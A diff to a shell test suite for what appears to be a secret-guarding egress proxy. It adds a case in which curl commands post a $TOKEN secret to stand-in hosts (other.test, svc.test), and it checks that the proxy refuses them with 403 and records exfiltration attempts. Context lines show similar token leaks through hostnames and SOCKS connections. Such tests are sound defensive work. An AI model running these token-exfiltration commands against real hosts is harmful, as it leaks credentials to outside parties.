@@ -126,6 +126,15 @@ like "$RF_OUT" 'GET /ok' "... the control (header, same host) works"
 is $(($(exfils) - n0)) 1 "... secret.exfil recorded"
 
 n0=$(exfils)
+er "${INJ[@]}" -- sh -c 'curl -sS -m 10 -d "k=$TOKEN" http://other.test:8080/post; echo
+	curl -sS -m 10 -d "$TOKEN" http://svc.test:8080/post-own; echo
+	curl -sS -m 10 -d "k=v" http://other.test:8080/post-ok'
+like "$(sed -n 1p <<<"$RF_OUT")" 'other.test:8080 refused: .*stands in the request body' "the placeholder in a request body to another host: 403"
+like "$RF_OUT" 'svc.test:8080 refused: .*stands in the request body' "... and to the secret's own host (no body replacement declared): 403 too"
+like "$RF_OUT" 'POST /post-ok' "... the control (a body without it) is served"
+is $(($(exfils) - n0)) 2 "... secret.exfil recorded for both"
+
+n0=$(exfils)
 er "${INJ[@]}" -- sh -c 'python3 ec.py connect "x$TOKEN.other.test:443" "x$TOKEN.other.test"
 	python3 ec.py socks "x$TOKEN.other.test" 4443
 	python3 ec.py socks other.test 4443'
